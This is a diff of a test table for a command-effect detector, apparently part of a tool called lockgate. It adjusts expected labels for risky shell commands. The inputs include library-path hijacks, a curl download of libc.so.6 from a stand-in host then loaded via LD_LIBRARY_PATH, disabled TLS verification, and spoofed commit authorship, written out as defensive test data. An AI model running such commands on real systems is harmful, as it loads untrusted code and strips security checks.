@@ -44,7 +44,6 @@ from lockgate.core.ruling.effects.project import NO_PROJECT
         ("LD_LIBRARY_PATH=/usr/lib LD_LIBRARY_PATH=/tmp/x ls", ("installs-hook", "/tmp/x")),
         ("LD_LIBRARY_PATH=/usr/lib env LD_LIBRARY_PATH=build ls", ("installs-hook", "build")),
         ("LD_LIBRARY_PATH=build LD_LIBRARY_PATH=out git -C /tmp/x status", ("installs-hook", "out")),
-        ("LD_LIBRARY_PATH=/opt/x sudo -E ls", ("installs-hook", "/opt/x")),
         ("LD_LIBRARY_PATH=build/../../x ./build/a", ("installs-hook", "build/../../x")),
         ("LD_LIBRARY_PATH='/tmp/a b' ls", ("installs-hook", "/tmp/a b")),
         ("LD_LIBRARY_PATH='build;/tmp/x' ls", ("installs-hook", "build;/tmp/x")),
@@ -57,8 +56,8 @@ from lockgate.core.ruling.effects.project import NO_PROJECT
         ("curl -so lib/libc.so.6 https://x.example/a; LD_LIBRARY_PATH=lib ls", ("installs-hook", "lib")),
         ("PATH=/tmp/bin:$PATH ls", ("unreadable", "/tmp/bin")),
         ("HTTPS_PROXY=http://h.example:8080 npm ci", ("uses-package-source", "h.example")),
-        ("GIT_SSL_NO_VERIFY=1 git fetch", ("disables-check", "TLS")),
-        ("NODE_TLS_REJECT_UNAUTHORIZED=0 node a.js", ("disables-check", "TLS")),
+        ("GIT_SSL_NO_VERIFY=1 git fetch", ("disables-check", "GIT_SSL_NO_VERIFY")),
+        ("NODE_TLS_REJECT_UNAUTHORIZED=0 node a.js", ("disables-check", "NODE_TLS_REJECT_UNAUTHORIZED")),
         ("GIT_AUTHOR_NAME=Eve git commit -m x", ("signs-as", "Eve")),
     ],
 )
